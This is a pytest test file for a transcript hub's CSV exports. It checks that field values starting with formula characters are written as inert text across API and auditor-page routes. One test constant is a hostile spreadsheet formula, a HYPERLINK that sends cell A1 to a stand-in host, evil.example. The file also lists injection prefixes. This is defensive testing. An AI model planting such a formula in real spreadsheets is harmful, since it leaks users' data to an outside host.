"""Issue 13.2: exports carry data, never formulas (docs/security.md, Exports).

Every text field that reaches a CSV export — through the xAPI statements of a partner
(actor name, activity name, platform), the partner's credential name (provider), and the
admin APIs (person name, agency, unit, competency name) — is sent with each formula
trigger, then read back from every CSV route (auditor API and auditor pages), on both
engines.  Numbers stay numbers; NIPs stay text."""

from __future__ import annotations

import csv
import io
import re

import pytest
from transcript_fixtures import learning, siasn

from hub.exports import FORMULA_TRIGGERS, csv_line, spreadsheet_cell

CSRF = re.compile(r'name="csrf_token" value="([^"]+)"')
REGISTERED = "199203142019031007"  # registered by an admin
STUB = "199511202020121004"  # known only from a partner's statement
ACTIVITY = "https://lms.vendor.example/kelas/etika"
PAYLOAD = 'HYPERLINK("http://evil.example/?"&A1,"klik")'
OWASP_PREFIXES = ["=", "+", "-", "@", "\t", "\r"]


def read(response) -> str:
    """The CSV text, read at once (the body streams within its request)."""
    body = response.get_data(as_text=True)
    assert response.status_code == 200, body
    assert response.mimetype == "text/csv"
    assert body.startswith("\ufeff")
    return body[1:]


def rows_of(raw: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw)))


def cells(rows: list[list[str]]) -> set[str]:
    return {cell for row in rows for cell in row}


@pytest.fixture
def hostile_hub(client, make_credential, request):
    """A hub where every exported text field starts with `prefix` where the route lets it."""
    prefix = request.param
    admin = {"Authorization": make_credential("admin", name="Admin BKN")["Authorization"]}
    text = {field: f"{prefix}{field}{PAYLOAD}" for field in
            ("actor", "activity", "platform", "provider", "person", "agency", "unit",
             "competency")}
    # The admin routes refuse (person) or strip (framework) a leading tab or CR: there the
    # prefix cannot reach an export, and "=" stands in so the row still exists.
    admin_prefix = prefix if prefix.isprintable() else "="
    for field in ("person", "agency", "unit", "competency"):
        text[field] = f"{admin_prefix}{field}{PAYLOAD}"
    framework_csv = io.StringIO()
    csv.writer(framework_csv).writerows([["kode", "nama", "jenis", "level"],
                                         ["E.1", text["competency"], "teknis", "1-4"]])
    framework = client.post("/api/transcripts/admin/frameworks", headers=admin,
                            query_string={"id": "etika", "title": "Etika"},
                            content_type="text/csv", data=framework_csv.getvalue())
    assert framework.status_code == 201, framework.json
    [competency] = framework.json["competencies"]
    assert competency["name"] == text["competency"]
    rules = client.post("/api/transcripts/admin/rules", headers=admin, json=[{
        "kind": "activity", "pattern": ACTIVITY, "competency": competency["id"], "level": 1,
        "jp": 2.5}])
    assert rules.status_code == 201, rules.json
    person = client.put(f"/api/transcripts/admin/people/{REGISTERED}", headers=admin, json={
        "name": text["person"], "employee_type": "PNS", "agency": text["agency"],
        "unit": text["unit"]})
    assert person.status_code == 201, person.json
    partner = make_credential("statements/write", "define", name=text["provider"])
    for nip, name in ((REGISTERED, None), (STUB, text["actor"])):
        statement = learning(siasn(nip, name), ACTIVITY, name=text["activity"],
                             platform=text["platform"], score=0.25,
                             timestamp="2026-03-14T09:30:00+07:00")
        response = client.post("/xapi/statements", json=statement, headers={
            "Authorization": partner["Authorization"], "X-Experience-API-Version": "1.0.3"})
        assert response.status_code == 200, response.json
    auditor = make_credential("auditor", name="Inspektorat")
    return {"text": text, "auditor": auditor, "prefix": prefix}


def exports(client, hub) -> dict[str, str]:
    """Every CSV the hub writes (its text), by route."""
    auditor = {"Authorization": hub["auditor"]["Authorization"]}
    agency = hub["text"]["agency"]
    got = {
        "api people": read(client.get("/api/transcripts/people", headers=auditor,
                                 query_string={"year": 2026, "format": "csv"})),
        "api agency": read(client.get("/api/transcripts/reports/agency", headers=auditor,
                                 query_string={"agency": agency, "year": 2026,
                                               "format": "csv"})),
        "api transcript": read(client.get(f"/api/transcripts/people/{STUB}/transcripts/2026",
                                     headers=auditor, query_string={"format": "csv"})),
        "api transcript registered": read(client.get(
            f"/api/transcripts/people/{REGISTERED}/transcripts/2026", headers=auditor,
            query_string={"format": "csv"})),
    }
    page = client.get("/auditor/sign-in").get_data(as_text=True)
    signed = client.post("/auditor/sign-in", data={
        "key": hub["auditor"]["key"], "secret": hub["auditor"]["secret"],
        "csrf_token": CSRF.search(page).group(1)})
    assert signed.status_code == 303
    got["page people"] = read(client.get("/auditor/people.csv", query_string={"year": 2026}))
    got["page agency"] = read(client.get("/auditor/agency/report.csv",
                                         query_string={"agency": agency, "year": 2026}))
    got["page transcript"] = read(client.get(f"/auditor/people/{STUB}/2026/transcript.csv"))
    got["page transcript registered"] = read(client.get(
        f"/auditor/people/{REGISTERED}/2026/transcript.csv"))
    return got


# Where each field must appear: (route kinds, field).
EXPECTED = {
    "people": ("person", "agency", "unit", "actor"),
    "agency": ("person", "agency", "unit"),
    "transcript": ("actor", "activity", "platform", "provider", "competency"),
    "transcript registered": ("person", "activity", "platform", "provider", "competency"),
}


@pytest.mark.parametrize("hostile_hub", OWASP_PREFIXES, indirect=True,
                         ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_every_exported_text_field_is_written_as_inert_text(client, hostile_hub):
    text = hostile_hub["text"]
    for route, raw in exports(client, hostile_hub).items():
        found = cells(rows_of(raw))
        for field in EXPECTED[route.split(" ", 1)[1]]:
            assert "'" + text[field] in found, (route, field)
        live = [c for c in found if c.lstrip(" ").startswith(FORMULA_TRIGGERS)]
        assert live == [], (route, live)


@pytest.mark.parametrize("hostile_hub", ["="], indirect=True)
def test_numbers_stay_numbers_and_nips_stay_text(client, hostile_hub):
    for route, raw in exports(client, hostile_hub).items():
        rows = rows_of(raw)
        nips = {row[0] for row in rows[1:]} if "transcript" not in route else {rows[0][1]}
        assert nips and nips <= {"'" + REGISTERED, "'" + STUB}, (route, nips)
        if "transcript" in route:
            line = rows[2]
            # JP 2.5 and score 25: unquoted numbers in the file, read as such by a spreadsheet.
            assert (line[5], line[6], line[10]) == ("25", "2.5", "1")
            assert ',25,2.5,"activity",' in raw, raw
            assert rows[0][5] == "2026" and ',"tahun",2026,' in raw
        else:
            assert rows[1][5] == "2026" and ',2026,2.5,' in raw, raw


# --- the writer itself -------------------------------------------------------------------
@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_each_trigger_is_neutralised_also_after_leading_spaces(trigger):
    assert spreadsheet_cell(f"{trigger}SUM(A1)") == f"'{trigger}SUM(A1)"
    assert spreadsheet_cell(f"  {trigger}SUM(A1)") == f"'  {trigger}SUM(A1)"


def test_real_numbers_are_written_unquoted_and_unchanged():
    assert csv_line([-3, 2.5, 0, 21]) == "-3,2.5,0,21\r\n"


def test_text_is_quoted_so_no_separator_inside_it_starts_a_cell():
    assert csv_line(["a;=1+1", 'Siti "Ani"', None, "Biro SDM"]) == \
        '"a;=1+1","Siti ""Ani""","","Biro SDM"\r\n'


def test_digit_text_such_as_a_nip_keeps_its_digits_as_text():
    assert spreadsheet_cell("199001012015032001") == "'199001012015032001"
    assert spreadsheet_cell("007") == "'007"
    assert spreadsheet_cell("2026-03-14") == "2026-03-14"  # a date is data, left alone


def test_text_starting_with_the_mark_gets_another_so_one_strip_gives_it_back():
    for value in ("'quoted", "=1+1", "199001012015032001", "Biro SDM"):
        cell = spreadsheet_cell(value)
        assert (cell[1:] if cell.startswith("'") else cell) == value
